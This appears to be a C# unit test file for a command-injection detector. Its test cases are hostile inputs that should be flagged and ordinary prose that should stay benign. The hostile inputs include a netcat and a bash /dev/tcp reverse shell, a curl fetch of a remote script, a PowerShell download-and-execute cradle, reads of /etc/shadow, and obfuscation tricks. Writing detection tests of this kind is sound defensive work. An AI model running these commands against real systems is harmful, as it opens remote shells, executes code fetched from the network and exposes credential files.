using InfiniteSecurity.Detection;
using static InfiniteSecurity.Detection.UnitTests.DetectionAssertions;

namespace InfiniteSecurity.Detection.UnitTests;

[TestFixture]
public sealed class CommandInjectionDetectionTests
{
    [TestCase(";cat /etc/shadow")]
    [TestCase("8.8.8.8 && whoami")]
    [TestCase("x || uname -a")]
    [TestCase("host.test | nc -e /bin/sh 203.0.113.5 4444")]
    [TestCase("a%0Aid")]
    public void Operator_followed_by_a_command_is_detected(string input) => AssertDetectedAs(input, ThreatCategory.CommandInjection);

    [TestCase("$(whoami)")]
    [TestCase("name`id`")]
    [TestCase("x$(curl -s http://203.0.113.9/s.sh)")]
    public void Command_substitution_is_detected(string input) => AssertDetectedAs(input, ThreatCategory.CommandInjection);

    [TestCase(";head${IFS}-n1${IFS}/etc/group")]
    [TestCase(";w'h'o'am'i")]
    [TestCase(";c\\at /etc/hosts")]
    [TestCase("& who^ami")]
    public void Quote_splitting_and_ifs_obfuscation_is_detected(string input) => AssertDetectedAs(input, ThreatCategory.CommandInjection);

    [TestCase("& powershell -nop -c iex(New-Object Net.WebClient).DownloadString('http://e.test')")]
    [TestCase("| type C:\\Windows\\win.ini")]
    [TestCase("& net user")]
    public void Windows_and_powershell_commands_are_detected(string input) => AssertDetectedAs(input, ThreatCategory.CommandInjection);

    [TestCase("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")]
    public void Reverse_shell_is_detected(string input) => AssertDetectedAs(input, ThreatCategory.CommandInjection);

    [TestCase("libc6 (>= 2.34), curl | wget, debconf")]
    [TestCase("curl | wget")]
    [TestCase("Set $(XDG_CONFIG_HOME) to move the config")]
    [TestCase("Use `rm` with care; it deletes files")]
    [TestCase("Fear & Greed index, rm 3.5 in the report")]
    [TestCase("dash | mksh | posh-shell")]
    [TestCase("Ping me when you are back; cat pictures welcome")]
    public void Dependency_lists_and_prose_stay_benign(string input) => AssertBenign(input);
}
